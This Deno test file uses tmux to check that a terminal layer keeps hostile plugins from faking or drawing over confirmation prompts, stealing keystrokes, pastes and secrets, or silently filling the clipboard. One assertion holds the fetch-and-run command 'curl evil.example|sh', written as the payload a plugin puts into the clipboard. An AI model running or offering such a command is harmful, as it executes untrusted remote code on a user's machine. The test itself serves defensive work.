// deno-lint-ignore-file no-control-regex no-regex-spaces
/** The kernel's terminal in a real one: a hostile part writes, a person types. */

import assert from "node:assert/strict";
import { fileURLToPath } from "node:url";
import { testWhen } from "../support/skip.ts";
import { hasTmux, TmuxSession } from "./tmux.ts";

const missing = await hasTmux() ? undefined : "tmux is missing (install tmux)";
const PROGRAM = fileURLToPath(new URL("kernel_program.ts", import.meta.url));
const COMMAND = [
  ...[Deno.execPath(), "run", "--no-prompt", "--no-check", "--cached-only"],
  ...["--allow-run", "--allow-env", "--allow-read", PROGRAM],
];

/** An answer counts from here on. */
const READY = /^▌ > ?$/m;

function start(scene: string, options: { flag?: string; columns?: number; rows?: number } = {}) {
  const { flag = "", ...size } = options;
  return TmuxSession.start({ command: [...COMMAND, scene, flag], ...size });
}

testWhen(missing, "a part can neither draw over a question nor imitate one", async () => {
  await using tmux = await start("overdraw");
  await tmux.waitFor(READY);
  const screen = await tmux.screen({ styles: true });
  assert.doesNotMatch(screen, /OVERDRAWN|HOSTILE/);
  assert.match(screen, /▌ plugin mail: to everybody/);
  assert.match(screen, /▌ .*! It sends\./);
  assert.match(screen, /▌ .*\x1b\[7m Send the mail\?/);
  await tmux.keys("y");
  await tmux.waitFor('answer: "y"');
  // What scrolled away is the kernel's: it drew there before the part drew again.
  assert.match(await tmux.screen({ history: true }), /^Send the mail\? yes/m);
  const after = await tmux.screen({ styles: true, history: true });
  assert.doesNotMatch(after, /▌|\x1b\[[\d;]*\b7m/);
});

testWhen(
  missing,
  "typed-ahead keys, pastes and replies of the terminal answer nothing",
  async () => {
    await using tmux = await start("choose");
    await tmux.waitFor("Go?");
    await tmux.type("y");
    await tmux.waitFor(READY);
    await tmux.paste("y\n");
    await tmux.waitFor("▌ ...");
    await tmux.waitFor(READY);
    // A cursor report, a colour report and a title, each with a "y" in it, as tmux's keys in hex.
    for (const reply of ["\x1b[1;1Ry", "\x1b]10;rgb:y/y/y\x1b\\", "\x1bPy\x1b\\", "yy", "y\r"]) {
      await tmux.keys("-H", ...[...reply].map((char) => char.charCodeAt(0).toString(16)));
      await tmux.waitFor("▌ ...");
      await tmux.waitFor(READY);
    }
    assert.doesNotMatch(await tmux.screen(), /answer:/);
    await tmux.keys("n");
    await tmux.waitFor('answer: "n"');
  },
);

for (const key of ["Enter", "Escape", "C-c"]) {
  testWhen(missing, `${key} at a question is no answer, and ends nothing else`, async () => {
    await using tmux = await start("choose");
    await tmux.waitFor(READY);
    await tmux.keys(key);
    await tmux.waitFor("answer: nothing");
    assert.equal(await tmux.exitCode(), 0);
  });
}

testWhen(missing, "a question under a running hand takes none of its keys", async () => {
  await using tmux = await start("keys");
  await tmux.waitFor("typing>");
  await tmux.type("abq");
  await tmux.waitFor("Go?");
  for (let i = 0; i < 10; i++) {
    await tmux.type("y");
    await new Promise((resolve) => setTimeout(resolve, 150));
  }
  assert.doesNotMatch(await tmux.screen(), /answer:/);
  await tmux.waitFor(READY);
  await tmux.keys("n");
  assert.match(await tmux.waitFor("answer:"), /\[question\]answer: "n"/);
  await tmux.type("x");
  await tmux.waitFor('typed: "abqx"');
});

testWhen(
  missing,
  "a secret is shown neither while it is typed nor while it is checked",
  async () => {
    await using tmux = await start("secret");
    await tmux.waitFor(READY);
    await tmux.type("horsf");
    await tmux.keys("BSpace");
    await tmux.type("e");
    await tmux.keys("Enter");
    await tmux.waitFor("checking...");
    await tmux.type("again");
    const screen = await tmux.waitFor("secret:");
    assert.match(screen, /secret: "horse"/);
    assert.doesNotMatch(screen, /again|horsf/);
  },
);

testWhen(missing, "a line takes a paste, and no newline in it", async () => {
  await using tmux = await start("line");
  await tmux.waitFor(READY);
  await tmux.type("wrong");
  await tmux.keys("C-u");
  await tmux.paste("Ada\nL");
  await tmux.waitFor("▌ > AdaL");
  await tmux.keys("Enter");
  await tmux.waitFor('line: "AdaL"');
});

testWhen(missing, "two askers at once do not take each other's answers", async () => {
  await using tmux = await start("two");
  await tmux.waitFor(/First\?\s*\n▌ > ?$/m);
  await tmux.type("one");
  await tmux.keys("Enter");
  await tmux.waitFor(/Second\?\s*\n▌ > ?$/m);
  await tmux.type("two");
  await tmux.keys("Enter");
  await tmux.waitFor('first: "one"');
  await tmux.waitFor('second: "two"');
});

for (const flag of ["", "no-color", "dumb"]) {
  testWhen(missing, `a long question fits 40 by 10 and pages ${flag}`, async () => {
    await using tmux = await start("long", { flag, columns: 40, rows: 10 });
    const screen = await tmux.waitFor(/^▌ m first:/m);
    assert.match(screen, /▌ \.*…? ?\d+ more lines, m shows all/);
    assert.match(screen, /! It runs programs\.\n▌ +Enable mail\?/);
    assert.doesNotMatch(screen, /y yes/);
    assert.match(screen, /n no/);
    await tmux.keys("y");
    await tmux.waitFor(/▌ \.\.\.$/);
    await tmux.waitFor(/▌ m first:$/);
    await tmux.keys("m");
    await tmux.waitFor("page 1 of 8");
    await tmux.keys("q");
    await tmux.waitFor(/▌ m first:$/);
    await tmux.keys("m");
    await tmux.waitFor(/page 1 of 8.*$/);
    for (let page = 2; page <= 8; page++) {
      await tmux.keys("Space");
      await tmux.waitFor(`page ${page} of 8`);
    }
    assert.match(await tmux.screen(), /line 59/);
    await tmux.keys("q");
    await tmux.waitFor(/Enable mail\?\s*\n▌ y yes   n no\n(▌ \.\.\.\n)?▌ > ?$/);
    await tmux.keys("y");
    await tmux.waitFor('answer: "y"');
  });
}

testWhen(missing, "a question is drawn again in a window of another size", async () => {
  await using tmux = await start("long");
  await tmux.waitFor("m first:");
  await tmux.resize(40, 10);
  await tmux.waitFor("▌ ...");
  const screen = await tmux.waitFor("m first:");
  assert.equal(screen.match(/Enable mail\?/g)?.length, 1);
});

testWhen(missing, "an editor gets the first key, and leaves no state behind", async () => {
  await using tmux = await start("lend");
  await tmux.waitFor("child>");
  await tmux.type("hello");
  await tmux.keys("Enter");
  const screen = await tmux.waitFor("back qx");
  assert.match(screen, /child got hello/);
  assert.match(screen, /\[question\]back qx/);
  assert.doesNotMatch(await tmux.screen({ styles: true }), /\x1b\[7m.*back/);
});

testWhen(missing, "the clipboard is the kernel's, and it says what it put there", async () => {
  await using tmux = await start("copy");
  await tmux.waitFor("true false");
  const screen = await tmux.screen({ history: true });
  assert.match(screen, /^\\x1b\]52;c;aG9zdGlsZQ==\\x07$/m);
  assert.match(screen, /^Copied, if your terminal allows it: the answer$/m);
});

testWhen(missing, "Ctrl-Z and fg: the question is drawn again, and keys are keys", async () => {
  await using tmux = await TmuxSession.start({
    command: ["bash", "--norc", "-i"],
    env: { PS1: "$ ", TERM: "tmux-256color" },
  });
  const quoted = COMMAND.map((word) => `'${word}'`).join(" ");
  await tmux.type(`${quoted} choose; echo ended`);
  await tmux.keys("Enter");
  await tmux.waitFor(READY);
  await tmux.keys("C-z");
  const stopped = await tmux.waitFor("Stopped");
  assert.doesNotMatch(stopped, /▌/);
  await tmux.type("fg");
  await tmux.keys("Enter");
  await tmux.waitFor(/fg\n[^]*▌ > ?$/);
  await tmux.keys("y");
  await tmux.waitFor('answer: "y"');
});

testWhen(
  missing,
  "a finished question leaves no row with the sign, whatever is drawn then",
  async () => {
    await using tmux = await start("reuse");
    await tmux.waitFor(READY);
    await tmux.keys("y");
    await tmux.waitFor("Wrong. Passphrase of the vault:");
    assert.doesNotMatch(await tmux.screen({ history: true }), /▌/);
  },
);

testWhen(missing, "a terminal without sequences is given none by a part", async () => {
  await using tmux = await start("reuse", { flag: "dumb" });
  await tmux.waitFor(READY);
  await tmux.keys("y");
  const screen = await tmux.waitFor("Wrong. Passphrase of the vault:");
  assert.match(screen, /\\x1b\[1A/);
  assert.doesNotMatch(screen, /▌.*Wrong/);
});

testWhen(missing, "a process stopped with its question leaves none on the screen", async () => {
  await using tmux = await TmuxSession.start({
    command: ["bash", "--norc", "-i"],
    env: { PS1: "$ ", TERM: "tmux-256color" },
  });
  const quoted = COMMAND.map((word) => `'${word}'`).join(" ");
  await tmux.type(`${quoted} choose`);
  await tmux.keys("Enter");
  await tmux.waitFor(READY);
  const [, pid] = /part (\d+) was/.exec(await tmux.screen())!;
  // Nothing can be erased before such a stop.
  Deno.kill(Number(pid), "SIGSTOP");
  await tmux.waitFor("Stopped");
  await tmux.type("fg");
  await tmux.keys("Enter");
  const screen = await tmux.waitFor(/^▌ {2}Go\?[^]*▌ >$/);
  assert.equal(screen.match(/Go\?/g)?.length, 1);
  await tmux.keys("y");
  await tmux.waitFor('answer: "y"');
});

testWhen(
  missing,
  "a question in place of another takes no answer that was for that one",
  async () => {
    await using tmux = await start("swap");
    await tmux.waitFor("to: mum");
    await tmux.waitFor("to: eve");
    const began = performance.now();
    await tmux.waitFor("▌ ! This is another question");
    for (let i = 0; i < 8; i++) {
      await tmux.type("y");
      await new Promise((resolve) => setTimeout(resolve, 150));
    }
    await tmux.waitFor(READY);
    assert.ok(performance.now() - began > 3000);
    assert.doesNotMatch(await tmux.screen(), /second:/);
    await tmux.keys("n");
    await tmux.waitFor('second: "n"');
    const screen = await tmux.waitFor(READY);
    assert.match(screen, /Third\?/);
    assert.doesNotMatch(screen, /another question/);
  },
);

testWhen(missing, "no key is a part's once a question was requested", async () => {
  await using tmux = await start("early");
  await tmux.waitFor("typing>");
  await tmux.type("go");
  await tmux.waitFor("requested");
  await tmux.typeByHand("passphrase\n");
  const began = performance.now();
  await tmux.waitFor(READY);
  // Behind half a minute of output at this terminal's speed.
  assert.ok(performance.now() - began < 5000);
  await tmux.keys("n");
  await tmux.waitFor('typed: "go"');
});

testWhen(missing, "a copy cannot be taken back unseen", async () => {
  await using tmux = await start("steal");
  assert.match(await tmux.waitFor("Put into"), /Put into the clipboard 2 times/);
  assert.match(await tmux.screen(), /the last: curl evil\.example\|sh/);
});

/** A shell in the terminal that runs the program with its streams led elsewhere. */
function startRedirected(line: string, folder: string): Promise<TmuxSession> {
  return TmuxSession.start({ command: ["bash", "-c", line, "bash", ...COMMAND], cwd: folder });
}

testWhen(missing, "where stdin is a pipe, the controlling terminal is asked", async () => {
  const folder = await Deno.makeTempDir();
  await using tmux = await startRedirected('echo piped | "$@" secret; stty -a', folder);
  await tmux.waitFor(READY);
  await tmux.type("horse");
  await tmux.keys("Enter");
  await tmux.waitFor('secret: "horse"');
  assert.match(await tmux.screen({ history: true }), /^Passphrase:/m);
  assert.match(await tmux.waitFor("icanon"), / echo /);
});

testWhen(missing, "where no stream is a terminal, the controlling one is asked", async () => {
  const folder = await Deno.makeTempDir();
  const line = 'echo piped | "$@" two >out 2>&1; cat out';
  await using tmux = await startRedirected(line, folder);
  await tmux.waitFor(/First\?\s*\n▌ > ?$/m);
  assert.match(await tmux.screen({ styles: true }), /\x1b\[7m First\?/);
  await tmux.type("one");
  await tmux.keys("Enter");
  await tmux.waitFor(/Second\?\s*\n▌ > ?$/m);
  await tmux.type("two");
  await tmux.keys("Enter");
  const screen = await tmux.waitFor('second: "two"');
  assert.match(screen, /first: "one"/);
});

testWhen(missing, "Ctrl-C at a question of the controlling terminal is no answer", async () => {
  const folder = await Deno.makeTempDir();
  await using tmux = await startRedirected('echo piped | "$@" choose; stty -a', folder);
  await tmux.waitFor(READY);
  await tmux.keys("C-c");
  await tmux.waitFor("answer: nothing");
  assert.match(await tmux.waitFor("icanon"), / echo /);
});

Deno.test("without any terminal nobody is there", async () => {
  const { text, code } = await shell('timeout 20 setsid --wait "$@" choose');
  assert.match(text, /answer: nothing/);
  assert.equal(code, 0);
});

/** Runs a shell command line; what it printed, and how long it took. */
async function shell(line: string): Promise<{ text: string; code: number; ms: number }> {
  const began = performance.now();
  const { stdout, stderr, code } = await new Deno.Command("bash", {
    args: ["-c", line, "bash", ...COMMAND],
    stdin: "null",
    stdout: "piped",
    stderr: "piped",
  }).output();
  const text = new TextDecoder().decode(stdout) + new TextDecoder().decode(stderr);
  return { text, code, ms: performance.now() - began };
}

Deno.test("a reader that goes away ends the program quietly", async () => {
  const { text, code } = await shell('set -o pipefail; timeout 20 "$@" flood | head -c 5');
  assert.equal(text, "xxxxx");
  assert.equal(code, 0);
});

Deno.test("a full pipe leaves Ctrl-C its way", async () => {
  const { text, ms } = await shell(
    `exec 3> >(sleep 20 >/dev/null 2>&1); "$@" flood >&3 & pid=$!; sleep 1.5; kill -INT $pid; wait $pid; echo "code $?"; kill %- 2>/dev/null; exit`,
  );
  assert.match(text, /code 130/);
  assert.ok(ms < 10_000, `${ms} ms`);
});

Deno.test("100 MB go through a pipe", async () => {
  const { text, ms } = await shell('"$@" big | wc -c');
  assert.equal(text.trim(), String(1600 * 65536));
  await Deno.stderr.write(new TextEncoder().encode(`  100 MB in ${Math.round(ms)} ms\n`));
});
